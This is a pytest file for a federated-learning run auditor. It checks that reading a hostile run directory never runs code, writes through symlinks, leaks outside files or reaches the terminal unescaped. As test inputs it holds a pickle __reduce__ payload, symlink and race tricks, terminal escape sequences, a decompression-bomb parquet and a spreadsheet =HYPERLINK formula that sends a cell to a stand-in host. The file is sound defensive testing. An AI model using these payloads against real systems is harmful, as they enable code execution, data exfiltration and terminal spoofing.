"""A run directory from a hostile sender: what reading it must never do to the reader.

Beside ``test_audit_attacks.py`` (rewrites the audit must catch), these attacks aim at the
reader and the auditor's machine, one class each: code execution through ``--resume``,
writes through links in the report, work before verification, the network and files
outside the run directory, duplicate rows, tracebacks, check-then-open races, control
characters, holes in the command line and rewrites without the key that a rebuild from
the seed catches. Each works on a copy of the session's real signed run (``signed_run``,
conftest.py) with real files, links and FIFOs, and runs the command line in process.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import pickle
import shutil
import socket
import threading
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from fedvalue.run import rundir
from fedvalue.run.archive import read_round_record, record_path, write_round_record
from fedvalue.analysis.run_summary import load_run
from fedvalue.run.ledger_reader import read_ledger_csv
from fedvalue.run.ledger_tables import LedgerWriter
from fedvalue.schema import ClientEntry, LedgerRow, RoundRow
from simulations.cli.main import main
from simulations.experiments.noisy_clients.noisy_clients import utility_from_run
from tests.fedvalue.forgery import rebook_last_round, rechain, reseal

SECRET = "SECRET-7f3a91"


@pytest.fixture
def copy(signed_run, tmp_path) -> Path:
    run_dir = tmp_path / "run"
    shutil.copytree(signed_run[0], run_dir)
    return run_dir


@pytest.fixture
def outside(tmp_path) -> Path:
    """A directory the reader owns: nothing may be written or read there."""
    path = tmp_path / "outside"
    path.mkdir()
    (path / "victim.txt").write_text("the reader's own file\n")
    return path


def audit(run_dir: Path, capsys, *extra: str) -> tuple[int, str]:
    code = main(["audit", str(run_dir), *extra])
    return code, capsys.readouterr().out


def verdict(out: str) -> str:
    return out.strip().splitlines()[-1].rsplit(": ", 1)[-1]


def _lines(path: Path) -> list[str]:
    return path.read_text().splitlines(keepends=True)


def _forge_tables(run_dir: Path) -> None:
    (run_dir / "ledger.parquet").unlink()
    read_ledger_csv(io.StringIO((run_dir / "ledger.csv").read_text(), newline="")).to_parquet(
        run_dir / "ledger.parquet", index=False)
    rechain(run_dir)


def _config(run_dir: Path) -> dict:
    return json.loads((run_dir / "run.json").read_text())


def _write_config(run_dir: Path, config: dict) -> None:
    (run_dir / "run.json").write_text(json.dumps(config, indent=2, sort_keys=True) + "\n")
    rechain(run_dir)


class _Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (Path(self.marker),))


# --------------------------------------------------------------------------- code execution through --resume


def test_a_checkpoint_of_round_zero_with_a_pickle_neither_runs_nor_cuts_anything(signed_run, copy, tmp_path, capsys):
    (copy / "manifest.json").unlink()
    before = {name: (copy / name).read_bytes() for name in ("ledger.csv", "rounds.csv", "seals.jsonl")}
    marker = tmp_path / "payload-ran"
    (copy / "checkpoint.json").write_text(json.dumps({"round": 0, "files": {}}) + "\n")
    arrays = next(p for p in (copy / "checkpoint").iterdir() if not p.name.endswith("-state.npz"))
    shutil.copy(arrays, copy / "checkpoint" / "round-000000.npz")
    for name in ("round-000000.pkl", "round-000000-state.npz"):
        (copy / "checkpoint" / name).write_bytes(pickle.dumps(_Payload(str(marker))))
    assert main(["run", "noisy-clients", "--resume", str(copy), "--quiet", "--sign-key", str(signed_run[1])]) == 2
    err = capsys.readouterr().err
    assert "3 committed rounds" in err and "nothing was changed" in err
    assert not marker.exists()
    assert {name: (copy / name).read_bytes() for name in before} == before


def test_sizes_the_seal_did_not_commit_to_are_refused_before_anything_is_cut(copy, capsys):
    (copy / "manifest.json").unlink()
    before = {name: (copy / name).read_bytes() for name in ("ledger.csv", "rounds.csv", "seals.jsonl")}
    pointer = json.loads((copy / "checkpoint.json").read_text())
    pointer["files"] = {name: 40 for name in pointer["files"]}
    (copy / "checkpoint.json").write_text(json.dumps(pointer) + "\n")
    assert main(["run", "noisy-clients", "--resume", str(copy), "--quiet"]) == 2
    assert "sizes" in capsys.readouterr().err
    assert {name: (copy / name).read_bytes() for name in before} == before


# --------------------------------------------------------------------------- writes through links in the report


def test_a_linked_report_page_fails_the_audit_and_is_replaced_not_written_through(signed_run, copy, outside, capsys):
    (copy / "report.html").symlink_to(outside / "victim.txt")
    for argv in ([], ["--public-key", str(signed_run[2])]):
        code, out = audit(copy, capsys, "--no-recompute", *argv)
        assert code == 1 and verdict(out) == "NOT intact" and "report.html: a symbolic link" in out
    assert main(["report", str(copy), "--html"]) == 0
    assert (outside / "victim.txt").read_text() == "the reader's own file\n"
    assert (copy / "report.html").is_file() and not (copy / "report.html").is_symlink()


def test_a_linked_figures_directory_or_figure_is_never_written_through(copy, outside, capsys):
    (copy / "figures").symlink_to(outside)
    assert main(["report", str(copy), "--plots"]) == 2
    assert "symbolic link" in capsys.readouterr().err
    (copy / "figures").unlink()
    (copy / "figures").mkdir()
    (copy / "figures" / "value_heatmap.png").symlink_to(outside / "victim.txt")
    assert main(["report", str(copy), "--plots"]) == 0
    capsys.readouterr()
    assert sorted(p.name for p in outside.iterdir()) == ["victim.txt"]
    assert (outside / "victim.txt").read_text() == "the reader's own file\n"
    assert not (copy / "figures" / "value_heatmap.png").is_symlink()


def test_run_json_text_cannot_write_lines_of_its_own_into_the_report(copy, capsys):
    config = _config(copy)
    config["simulation"] = "noisy-clients\nINJECTED-LINE\n\x1b[2J"
    _write_config(copy, config)
    assert main(["report", str(copy), "--html"]) == 0
    page = (copy / "report.html").read_text()
    assert "INJECTED-LINE" not in page.splitlines() and "\x1b" not in page


def test_a_table_directory_shows_no_linked_file_and_no_linked_run(signed_run, tmp_path, outside, capsys):
    tables = tmp_path / "tables"
    tables.mkdir()
    (tables / "mine.csv").write_text("a,b\n1,2\n")
    (outside / "secret.csv").write_text(f"a,b\n{SECRET},1\n")
    (tables / "leak.csv").symlink_to(outside / "secret.csv")
    linked = outside / "run"
    shutil.copytree(signed_run[0], linked)
    _relabel(linked, SECRET)
    (tables / "linked-run").symlink_to(linked)
    assert main(["report", str(tables), "--html"]) == 0
    page = (tables / "report.html").read_text()
    assert SECRET not in page and "leak.csv (a symbolic link)" in page


# --------------------------------------------------------------------------- work before verification


@pytest.mark.timeout(120)
def test_a_record_with_copied_replies_and_an_exact_estimator_is_refused_without_the_work(copy, capsys):
    record = read_round_record(record_path(copy, 1))
    replies = list(record.replies.items())
    for k in range(20):
        source, arrays = replies[k % len(replies)]
        weight = record.weights[source]
        record.replies[1000 + k] = arrays
        record.entries.append(ClientEntry(1000 + k, "ok", weight, int(weight)))
        record.accepted.append(1000 + k)
    record.settings = dataclasses.replace(record.settings,
                                          valuation=dataclasses.replace(record.settings.valuation, method="exact"))
    write_round_record(copy, record)
    reseal(copy)
    code, out = audit(copy, capsys)
    assert code == 1 and "its method is 'exact', run.json says 'auto'" in out
    assert "22 clients; run.json samples at most 2 per round" in out


def test_a_manifest_naming_one_file_by_many_spellings_fails_at_once(copy, capsys):
    (copy / "blob.bin").write_bytes(b"x" * (1 << 20))
    reseal(copy)
    manifest = json.loads((copy / "manifest.json").read_text())
    digest = manifest["files"]["blob.bin"]
    manifest["files"].update({"./" * k + "blob.bin": digest for k in range(1, 200)})
    (copy / "manifest.json").write_text(json.dumps(manifest))
    code, out = audit(copy, capsys, "--no-recompute")
    assert code == 1 and "lists ./blob.bin, which is not a file of the run directory by that exact name" in out
    assert "blob.bin: a regular file, not a file a run writes" in out


@pytest.mark.timeout(120)
def test_a_procurement_run_whose_ledger_is_a_fifo_is_audited_without_hanging(tmp_path, capsys):
    study = tmp_path / "study"
    assert main(["run", "procurement", "--out", str(study), "--seeds", "1", "--stages", "2", "--offer-size", "10",
                 "--initial-epochs", "20", "--biased-samples", "50", "--rules", "ads"]) == 0
    run_dir = next(p.parent for p in study.rglob("ledger.csv"))
    capsys.readouterr()
    code, out = audit(run_dir, capsys)
    assert code == 0 and "replayed seed" in out  # the untouched run replays in a child process
    (run_dir / "ledger.csv").unlink()
    os.mkfifo(run_dir / "ledger.csv")
    code, out = audit(run_dir, capsys)
    assert code == 1 and "ledger.csv: a FIFO" in out and "replay: the run cannot be replayed" in out


def test_a_parquet_copy_that_unpacks_to_gigabytes_is_refused_from_its_metadata(copy, capsys):
    import pyarrow as pa
    import pyarrow.parquet as pq

    (copy / "ledger.parquet").unlink()
    row = read_ledger_csv(copy / "ledger.csv").iloc[:1]
    # One row repeated a million times by index (vectorized: concatenating a million frames took minutes).
    chunk = pa.Table.from_pandas(row, preserve_index=False).take(pa.array(np.zeros(1_000_000, dtype=np.int64)))
    with pq.ParquetWriter(copy / "ledger.parquet", chunk.schema, use_dictionary=True, compression="zstd") as writer:
        for _ in range(20):
            writer.write_table(chunk)
    assert (copy / "ledger.parquet").stat().st_size < 2_000_000
    reseal(copy)
    code, out = audit(copy, capsys, "--no-recompute")
    assert code == 1 and "ledger.parquet holds 20000000 rows; ledger.csv holds 12" in out


# --------------------------------------------------------------------------- network and files outside


def test_the_audit_connects_nowhere_and_reads_no_file_outside(copy, tmp_path, capsys):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.5)
    config = _config(copy)
    config["ray_address"] = f"127.0.0.1:{listener.getsockname()[1]}"
    _write_config(copy, config)
    audit(copy, capsys)
    with pytest.raises(TimeoutError):
        listener.accept()  # nobody called
    listener.close()
    data = tmp_path / "mnist"
    shutil.copytree("/usr/share/datasets/fashion-mnist", data)
    for path in data.iterdir():
        os.utime(path, (1, path.stat().st_mtime))
    config.update(dataset="mnist", mnist_path=str(data))
    _write_config(copy, config)
    code, out = audit(copy, capsys)
    assert code == 1 and verdict(out) == "NOT verifiable" and "data outside the run directory" in out
    assert all(path.stat().st_atime == 1 for path in data.iterdir())  # never opened


# --------------------------------------------------------------------------- duplicates and tracebacks


def test_duplicate_rows_that_move_value_fail_the_audit_and_are_refused_by_readers(copy, capsys):
    lines = _lines(copy / "ledger.csv")
    rows = [i for i, line in enumerate(lines) if line.startswith("1,") and ",ads," in line]
    for index, delta in sorted(((rows[0], 0.25), (rows[1], -0.25)), reverse=True):
        cells = lines[index].split(",")
        cells[3], cells[4] = repr(delta), ""
        lines.insert(index, ",".join(cells))
    (copy / "ledger.csv").write_text("".join(lines))
    _forge_tables(copy)
    code, out = audit(copy, capsys, "--no-recompute")
    assert code == 1 and "book one (round, method, client) more than once" in out
    with pytest.raises(ValueError, match="twice under ads in round 1"):
        load_run(copy)
    assert main(["report", str(copy)]) == 2


@pytest.mark.parametrize("where", ["run.json", "seals.jsonl", "manifest.json"])
def test_deeply_nested_json_is_a_finding_never_a_traceback(copy, capsys, where):
    if where == "seals.jsonl":
        (copy / "manifest.json").unlink()
    nested = "[" * 100_000 + "]" * 100_000
    if where == "seals.jsonl":
        with open(copy / where, "a") as handle:
            handle.write(nested + "\n")
    else:
        (copy / where).write_text(nested)
    code, out = audit(copy, capsys, "--no-recompute")
    assert code == 1 and verdict(out) in ("NOT intact", "NOT verifiable")
    assert main(["report", str(copy)]) in (0, 2)
    assert main(["run", "noisy-clients", "--resume", str(copy), "--quiet"]) == 2
    assert "Traceback" not in capsys.readouterr().err


def test_an_infinite_count_is_a_finding_and_a_refusal(copy, capsys):
    lines = _lines(copy / "rounds.csv")
    header = lines[0].rstrip("\n").split(",")
    cells = lines[1].split(",")
    cells[header.index("num_evaluations")] = "inf"
    lines[1] = ",".join(cells)
    (copy / "rounds.csv").write_text("".join(lines))
    rechain(copy)
    code, out = audit(copy, capsys, "--no-recompute")
    assert code == 1 and "num_evaluations holds a non-finite" in out
    assert main(["report", str(copy)]) == 2
    assert "num_evaluations holds an infinite number" in capsys.readouterr().err


# --------------------------------------------------------------------------- races


def test_a_directory_swapped_for_a_link_while_reading_never_leads_outside(tmp_path):
    run_dir, outside = tmp_path / "run", tmp_path / "outside"
    (run_dir / "sub").mkdir(parents=True)
    outside.mkdir()
    (run_dir / "sub" / "data.txt").write_text("INSIDE")
    (outside / "data.txt").write_text(SECRET)
    stop = threading.Event()

    def swap() -> None:
        while not stop.is_set():
            os.rename(run_dir / "sub", run_dir / "sub.real")
            os.symlink(outside, run_dir / "sub")
            os.unlink(run_dir / "sub")
            os.rename(run_dir / "sub.real", run_dir / "sub")

    swapper = threading.Thread(target=swap)
    swapper.start()
    leaked = read = attempts = 0
    deadline = time.monotonic() + 30
    try:
        with rundir.RunDir(run_dir) as run:
            # At least 3,000 reads, and on until one lands between swaps (a loaded machine can
            # schedule every one of the first 3,000 inside a swap).
            while attempts < 3000 or (read == 0 and time.monotonic() < deadline):
                attempts += 1
                try:
                    leaked += SECRET.encode() in run.read_bytes("sub/data.txt")
                    read += 1
                except (OSError, ValueError):
                    pass
    finally:
        stop.set()
        swapper.join()
    assert leaked == 0 and read > 0


# --------------------------------------------------------------------------- control characters


def test_control_characters_never_reach_the_terminal(signed_run, copy, capsys):
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["files"][f"\x1b[2K\r{copy}: 9 rounds, 99 ledger rows: intact\x1b[8m"] = "0" * 64
    (copy / "manifest.json").write_text(json.dumps(manifest))
    for argv in ([], ["--public-key", str(signed_run[2])]):
        code, out = audit(copy, capsys, "--no-recompute", *argv)
        assert code == 1 and not any(c in out for c in "\x1b\r\x07")
        assert verdict(out) == "NOT intact"
    other = copy.parent / "other"
    shutil.copytree(signed_run[0], other)
    _relabel(other, "\x1b]0;owned\x07\x1b[31mEVIL")
    assert main(["report", str(other)]) == 0
    assert not any(c in capsys.readouterr().out for c in "\x1b\x07")


def test_a_failing_clients_reason_reaches_the_csv_neither_as_formula_nor_as_escapes(tmp_path):
    writer = LedgerWriter(tmp_path / "run", config={"seed": 0})
    row = LedgerRow(round=1, client_id=3, method="ads", value=None, stderr=None, num_examples=None, status="failed",
                    noisy=False, reason='=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J')
    writer.write_round(RoundRow(round=1, clients="3", num_clients=1, num_failed=1, utility_before=0.0,
                                utility_realized=0.0), [row])
    reason = next(csv.DictReader(io.StringIO((tmp_path / "run" / "ledger.csv").read_text())))["reason"]
    assert reason.startswith("'=HYPERLINK") and "\x1b" not in reason and "\\x1b[2J" in reason


# --------------------------------------------------------------------------- holes in the command line


def test_keygen_never_overwrites_one_key_with_the_other(tmp_path, capsys):
    key = tmp_path / "same.pem"
    assert main(["keygen", str(key), str(key)]) == 2
    assert "another file than the private key" in capsys.readouterr().err and not key.exists()


@pytest.mark.parametrize("value", ["nan", "inf", "-1", "x"])
def test_a_tolerance_that_is_not_a_finite_non_negative_number_is_bad_input(signed_run, capsys, value):
    with pytest.raises(SystemExit) as exit_:
        main(["audit", str(signed_run[0]), "--tolerance", value])
    assert exit_.value.code == 2 and "tolerance: expected a finite number >= 0" in capsys.readouterr().err


def test_a_huge_or_special_public_key_file_is_refused_before_it_is_read(signed_run, tmp_path, capsys):
    big = tmp_path / "huge.pub"
    with open(big, "wb") as handle:
        handle.write(signed_run[2].read_bytes())
        handle.truncate(3 * 1024**3)  # sparse: reading it whole would take 3 GB
    assert main(["audit", str(signed_run[0]), "--public-key", str(big)]) == 2
    assert "at most 65536 bytes" in capsys.readouterr().err
    os.mkfifo(tmp_path / "fifo.pub")
    assert main(["audit", str(signed_run[0]), "--public-key", str(tmp_path / "fifo.pub")]) == 2
    assert "a FIFO" in capsys.readouterr().err


def test_a_record_name_with_a_trailing_newline_is_not_round_ones_record(copy, capsys):
    os.rename(copy / "records" / "round-000001.npz", copy / "records" / "round-000001.npz\n")
    reseal(copy)
    code, out = audit(copy, capsys)
    assert code == 1 and "records/round-000001.npz\\n: a regular file, not a file a run writes" in out
    assert "values: rounds [1] have no readable round record" in out  # the odd name is no record


def _relabel(run_dir: Path, new: str) -> None:
    lines = _lines(run_dir / "ledger.csv")
    client = lines[1].split(",")[1]
    (run_dir / "ledger.csv").write_text("".join(line.replace(f",{client},", f",{new},") for line in lines))
    _forge_tables(run_dir)


@pytest.mark.parametrize("client", [r"$x^{$", "²"])
def test_odd_client_ids_are_drawn_as_plain_text(copy, capsys, client):
    _relabel(copy, client)
    assert main(["report", str(copy), "--plots"]) == 0
    assert (copy / "figures" / "value_heatmap.png").stat().st_size > 0


# --------------------------------------------------------------------------- rewrites without the key


def test_training_settings_changed_in_run_json_fail_the_rebuild_from_the_seed(copy, capsys):
    config = _config(copy)
    config["learning_rate"] *= 5
    _write_config(copy, config)
    code, out = audit(copy, capsys)
    assert code == 1 and "its saved reply is not what local training" in out


def test_a_weight_rebooked_with_the_projects_own_recompute_fails_the_example_counts(copy, capsys):
    config = _config(copy)
    last = config["rounds"]
    record = read_round_record(record_path(copy, last))
    client = next(iter(record.replies))
    record.entries = [dataclasses.replace(e, weight=e.weight * 10, num_examples=int(e.weight * 10))
                      if e.client_id == client else e for e in record.entries]
    rebook_last_round(copy, record, utility_from_run(config), config["noisy_clients"])
    _forge_tables(copy)
    code, out = audit(copy, capsys)
    assert code == 1 and f"client {client}: its weight is" in out and "drawn from the run's seed" in out


def test_claim_rows_in_a_run_without_a_claim_review_fail(copy, capsys):
    lines = _lines(copy / "ledger.csv")
    index = next(i for i, line in enumerate(lines) if line.startswith("1,") and ",ads," in line)
    cells = lines[index].rstrip("\n").split(",")
    cells[2], cells[3], cells[4] = "claim_capped", "9999.0", ""
    lines.insert(index + 1, ",".join(cells) + "\n")
    (copy / "ledger.csv").write_text("".join(lines))
    _forge_tables(copy)
    code, out = audit(copy, capsys, "--no-recompute")
    assert code == 1 and "claim-review rows in a run whose run.json names no claim review" in out


@pytest.mark.parametrize("change", ["seventh digit", "lagging"])
def test_a_parquet_copy_must_equal_the_csv_exactly_and_whole_once_the_manifest_exists(copy, capsys, change):
    frame = pd.read_parquet(copy / "ledger.parquet")
    if change == "lagging":
        frame = frame[frame["round"] < frame["round"].max()]
    else:
        frame.loc[frame["method"] == "ads", "value"] *= 1 + 2e-7
    frame.to_parquet(copy / "ledger.parquet", index=False)
    reseal(copy)
    code, out = audit(copy, capsys, "--no-recompute")
    assert code == 1 and ("rows; ledger.csv holds" if change == "lagging" else "differs from ledger.csv") in out


def test_entries_the_manifest_does_not_list_fail_at_every_level(signed_run, copy, capsys):
    (copy / "notes.txt").write_text("not in the manifest\n")
    (copy / "records" / "deeper").mkdir()
    (copy / "records" / "deeper" / "x.npz").write_bytes(b"x")
    for argv in ([], ["--public-key", str(signed_run[2])]):
        code, out = audit(copy, capsys, "--no-recompute", *argv)
        assert code == 1 and "notes.txt" in out
    code, out = audit(copy, capsys, "--no-recompute")
    assert "records/deeper/x.npz: a regular file, not a file a run writes" in out


def test_the_audit_names_the_runs_head_seed_and_key(signed_run, capsys):
    run_dir, _, public = signed_run
    head = json.loads((run_dir / "manifest.json").read_text())["head"]
    key = json.loads((run_dir / "manifest.json").read_text())["key"]
    code, out = audit(run_dir, capsys, "--no-recompute", "--public-key", str(public))
    assert code == 0 and f"run: head {head}, seed 0, signed by key {key} (verified with the given public key)" in out
    code, out = audit(run_dir, capsys, "--no-recompute")
    assert f"signed by key {key} (not verified: no public key given)" in out


def test_after_a_signature_failure_the_summary_claims_nothing_unverified_and_counts_what_it_read(
        signed_run, copy, tmp_path, capsys):
    """A one-byte change: the seals still verify with the key, model.sig does not; a key that is
    not the signer's: nothing verifies. Either way the audit stops, the run line says only what
    was verified, and the last line counts the tables' rounds and rows as read, unchecked."""
    _, _, public = signed_run
    rounds, rows = (len(_lines(copy / name)) - 1 for name in ("rounds.csv", "ledger.csv"))
    key = json.loads((copy / "manifest.json").read_text())["key"]
    ledger = (copy / "ledger.csv").read_bytes()
    (copy / "ledger.csv").write_bytes(ledger[:-3] + bytes([ledger[-3] ^ 1]) + ledger[-2:])
    code, out = audit(copy, capsys, "--no-recompute", "--public-key", str(public))
    lines = out.rstrip().splitlines()
    assert code == 1 and "FAILED: " in out and "verified with the given public key)" not in out, out
    assert lines[-2] == (f"run: head not read (the audit stopped at model.sig), seed 0, signed by key {key} (its seals' "
                         "and manifest's signatures verify with the given public key; model.sig does NOT)")
    assert lines[-1] == f"{copy}: {rounds} rounds, {rows} ledger rows in its tables, not checked: NOT intact"
    assert main(["keygen", str(tmp_path / "other.pem"), str(tmp_path / "other.pub")]) == 0
    capsys.readouterr()
    code, out = audit(copy, capsys, "--no-recompute", "--public-key", str(tmp_path / "other.pub"))
    lines = out.rstrip().splitlines()
    assert code == 1 and lines[-2] == (f"run: head not read (the audit stopped at the signatures), seed 0, names key "
                                       f"{key} (its signatures do NOT verify with the given public key)")
    assert lines[-1].startswith(f"{copy}: {rounds} rounds, {rows} ledger rows in its tables, not checked")


def test_one_round_reads_one_round():
    from fedvalue.audit.report import AuditReport

    assert AuditReport("/r", rounds=1, ledger_rows=1, tables_checked=True).summary() == "/r: 1 round, 1 ledger row: intact"
